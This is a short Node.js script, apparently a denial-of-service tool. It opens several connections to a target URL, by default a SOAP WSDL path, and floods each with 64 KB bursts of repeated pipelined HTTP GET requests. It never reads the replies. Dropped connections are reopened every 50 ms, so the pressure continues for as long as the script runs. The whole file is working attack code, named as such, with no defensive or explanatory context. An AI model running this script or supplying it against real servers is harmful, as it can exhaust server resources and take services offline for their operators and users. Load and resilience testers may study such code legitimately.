// Asks for the same document again and again on each of a few connections, and never reads an answer.
// node unread-pipeline.js URL [connections] [path] [padding]: prints `ready` once every connection has sent all that it can. With padding (bytes
// in each head) few questions come with one reading of the socket, so that they are answered and not cut off.
import { connect } from 'node:net';

const [url, connections = '3', path = '/soap/leerresultaten?wsdl', padding = '0'] = process.argv.slice(2);
const { hostname, port, host } = new URL(url);
const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nX: ${'x'.repeat(Number(padding))}\r\n\r\n`;
const BURSTS = 64;
const burst = Buffer.from(request.repeat(Math.floor(65_536 / request.length)));

function attack() {
  return new Promise((done) => {
    const socket = connect(Number(port), hostname).pause();
    let sent = 0;
    const more = () => {
      while (sent < BURSTS) {
        sent += 1;
        if (!socket.write(burst)) return;
      }
      done();
    };
    socket.on('connect', more).on('drain', more);
    socket.on('error', () => undefined);
    // One that is cut off comes again, for as long as this runs.
    socket.on('close', () => {
      done();
      setTimeout(attack, 50);
    });
    setTimeout(done, 1000);
  });
}

await Promise.all(Array.from({ length: Number(connections) }, attack));
process.stdout.write('ready\n');
setInterval(() => undefined, 1000);
